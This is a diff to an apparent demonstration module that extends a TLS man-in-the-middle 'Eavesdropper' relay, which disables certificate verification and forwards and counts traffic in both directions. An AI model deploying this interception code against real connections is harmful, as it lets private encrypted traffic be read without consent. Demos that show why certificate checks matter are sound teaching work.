@@ -3,6 +3,7 @@
 The attack of the demo, and as real as the rest: whoever connects through it without checking the certificate is read.
 """
 
+import contextlib
 import socket
 import ssl
 import tempfile
@@ -68,9 +69,20 @@ class Eavesdropper:
         blind.check_hostname = False
         blind.verify_mode = ssl.CERT_NONE
         with socket.create_connection(self._target, 5) as raw, blind.wrap_socket(raw) as outside:
+            back = threading.Thread(target=_copy, args=(outside, inside), daemon=True)
+            back.start()
             outside.sendall(first)
-            while answer := outside.recv(65536):
-                inside.sendall(answer)
+            while more := inside.recv(65536):
+                self.overheard += len(more)
+                outside.sendall(more)
+            outside.shutdown(socket.SHUT_RDWR)
+            back.join()
+
+
+def _copy(source: ssl.SSLSocket, target: ssl.SSLSocket) -> None:
+    with contextlib.suppress(OSError):
+        while more := source.recv(65536):
+            target.sendall(more)
 
 
 def _own_context() -> ssl.SSLContext:
